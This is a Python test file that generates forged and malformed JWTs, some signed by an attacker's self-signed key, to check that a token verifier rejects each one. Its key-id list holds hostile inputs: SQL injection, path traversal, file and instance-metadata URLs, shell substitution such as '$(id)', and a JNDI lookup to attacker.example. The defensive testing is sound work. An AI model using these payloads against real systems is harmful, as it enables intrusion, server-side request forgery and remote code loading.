"""Tokens that contain a key, name a key, or are signed by a foreign key."""

import json
import zlib
from base64 import b64encode
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA1, SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from tests import mint
from tests.tokens.attack import ABSENT, Attack, Pool, encode, jwk

_ATTACKER = "attacker-1"


@cache
def _certificate() -> x509.Certificate:
    """Returns a certificate that the attacker has self-signed."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "cognito-idp.amazonaws.com")])
    valid_from = datetime.fromtimestamp(0, UTC)
    key = mint.private_key(_ATTACKER)
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, valid_from, valid_from + timedelta(days=36_500))
    return builder.sign(key, SHA256())


# --- keys in the token, or URLs of keys; signed by the attacker's key ---


_LOCATION = "https://attacker.example/keys"
_KEY_HEADERS: dict[str, Callable[[], dict[str, Any]]] = {
    "nothing": lambda: {},
    "a key": lambda: {"jwk": jwk(mint.private_key(_ATTACKER), _ATTACKER)},
    "a key URL": lambda: {"jku": _LOCATION},
    "a certificate URL": lambda: {"x5u": _LOCATION},
    "a certificate": lambda: {"x5c": [b64encode(_certificate().public_bytes(Encoding.DER)).decode()]},
    "a certificate's SHA-1": lambda: {"x5t": mint.base64url(_certificate().fingerprint(SHA1()))},  # noqa: S303
    "a certificate's SHA-256": lambda: {"x5t#S256": mint.base64url(_certificate().fingerprint(SHA256()))},
    "the type of an encrypted token": lambda: {"typ": "JWE"},
    "the content type of a token": lambda: {"cty": "JWT"},
}


def _forged(what: str, **more: Any) -> Callable[[Pool], str]:
    return lambda pool: pool.token(header={**_KEY_HEADERS[what](), **more}, key=mint.private_key(_ATTACKER))


def _forged_with_a_key_of_our_id(pool: Pool) -> str:
    header = {"jwk": jwk(mint.private_key(_ATTACKER), pool.kid)}
    return pool.token(header=header, key=mint.private_key(_ATTACKER))


def _forged_with_our_key_in_the_token(pool: Pool) -> str:
    """An attack on verifiers that compare the key in the token with a known key, and then use another one."""
    header = {"jwk": jwk(pool.private_key, pool.kid)}
    return pool.token(header=header, key=mint.private_key(_ATTACKER))


_WAYS = ("nothing", "a key", "a key URL", "a certificate URL", "a certificate")

# --- unknown key ids; signed by the pool's key, so that nothing else is wrong ---

_KIDS: dict[str, Callable[[str], object]] = {
    "missing": lambda kid: ABSENT,
    "null": lambda kid: None,
    "a number": lambda kid: 0,
    "true": lambda kid: True,
    "a list": lambda kid: [kid],
    "an object": lambda kid: {kid: kid},
    "empty": lambda kid: "",
    "another one": lambda kid: _ATTACKER,
    "too short by a character": lambda kid: kid[:-1],
    "too long by a character": lambda kid: kid + "x",
    "ours twice": lambda kid: kid + kid,
    "ours with a trailing space": lambda kid: kid + " ",
    "ours with a leading space": lambda kid: " " + kid,
    "ours with a trailing line feed": lambda kid: kid + "\n",
    "ours with a trailing NUL": lambda kid: kid + "\0",
    "ours with a NUL and another one": lambda kid: f"{kid}\0{_ATTACKER}",
    "ours and another": lambda kid: f"{kid},{_ATTACKER}",
    "ours with a zero-width space": lambda kid: kid + "\u200b",
    "ours with a combining accent": lambda kid: kid + "\u0301",
    "ours in fullwidth letters": lambda kid: "".join(chr(ord(letter) + 0xFEE0) for letter in kid),
    "ours after a path": lambda kid: f"./{kid}",
    "a wildcard": lambda kid: "*",
    "an SQL wildcard": lambda kid: "%",
    "an SQL condition": lambda kid: f"{kid}' OR '1'='1",
    "an SQL statement": lambda kid: "'; DROP TABLE keys; --",
    "a path upwards": lambda kid: "../../../../../../dev/null",
    "an absolute path": lambda kid: "/proc/sys/kernel/randomize_va_space",
    "a file URL": lambda kid: "file:///etc/hostname",
    "a URL": lambda kid: "https://attacker.example/key.pem",
    "the URL of the instance metadata": lambda kid: "http://169.254.169.254/latest/meta-data/",
    "a shell command": lambda kid: "$(id)",
    "a pipe": lambda kid: "| id",
    "a template": lambda kid: "{{7*7}}",
    "a logger lookup": lambda kid: "${jndi:ldap://attacker.example/a}",
    "the name of a prototype": lambda kid: "__proto__",
    "the name of a method": lambda kid: "keys",
    "an index": lambda kid: "0",
    "very long": lambda kid: "k" * 5000,
}


def _renamed(rename: Callable[[str], object]) -> Callable[[Pool], str]:
    return lambda pool: pool.token(header={"kid": rename(pool.kid)})


# --- extensions that a token requires; signed by the pool's key ---

_EXTENSIONS: dict[str, Mapping[str, Any]] = {
    "crit with a header expiry": {"crit": ["exp"], "exp": 4_000_000_000},
    "an empty crit": {"crit": []},
    "crit as text": {"crit": "exp"},
    "crit as null": {"crit": None},
    "crit with a registered name": {"crit": ["alg"]},
    "crit with an unknown extension": {"crit": ["urn:attacker"], "urn:attacker": True},
    "crit with an absent extension": {"crit": ["urn:attacker"]},
    "crit with b64 true": {"crit": ["b64"], "b64": True},
    "crit with b64 false": {"crit": ["b64"], "b64": False},
    "b64 false without crit": {"b64": False},
    "b64 true without crit": {"b64": True},
    "b64 null": {"b64": None},
}


def _with_header(header: Mapping[str, Any]) -> Callable[[Pool], str]:
    return lambda pool: pool.token(header=header)


def _not_encoded(pool: Pool) -> str:
    """Puts the unencoded payload into the token and signs it unencoded (RFC 7797)."""
    header = mint.base64url(encode(pool.header({"crit": ["b64"], "b64": False})))
    return pool.signed(f"{header}.{json.dumps(pool.claims())}")


def _detached(pool: Pool) -> str:
    """Signs the payload and leaves it out of the token (RFC 7797)."""
    header, _, signature = pool.parts(header={"crit": ["b64"], "b64": False})
    return f"{header}..{signature}"


def _compressed(pool: Pool) -> str:
    return mint.sign(encode(pool.header({"zip": "DEF"})), zlib.compress(encode(pool.claims()))[2:-4], pool.private_key)


ATTACKS = [
    *(
        Attack(f"a foreign signature under our key id, and {what}", "bad_signature", _forged(what))
        for what in _KEY_HEADERS
    ),
    Attack("a foreign signature, and its key under our key id", "bad_signature", _forged_with_a_key_of_our_id),
    Attack("a foreign signature, and our own key", "bad_signature", _forged_with_our_key_in_the_token),
    *(
        Attack(f"a foreign signature under a foreign key id, and {what}", "unknown_key", _forged(what, kid=_ATTACKER))
        for what in _WAYS
    ),
    *(
        Attack(f"a foreign signature without a key id, and {what}", "unknown_key", _forged(what, kid=ABSENT))
        for what in _WAYS
    ),
    *(Attack(f"a key id that is {what}", "unknown_key", _renamed(rename)) for what, rename in _KIDS.items()),
    *(Attack(f"a header with {what}", "malformed_token", _with_header(header)) for what, header in _EXTENSIONS.items()),
    Attack("an unencoded payload, as its header says", "malformed_token", _not_encoded),
    Attack("a detached payload", "malformed_token", _detached),
    Attack("a compressed payload", "malformed_token", _compressed),
]
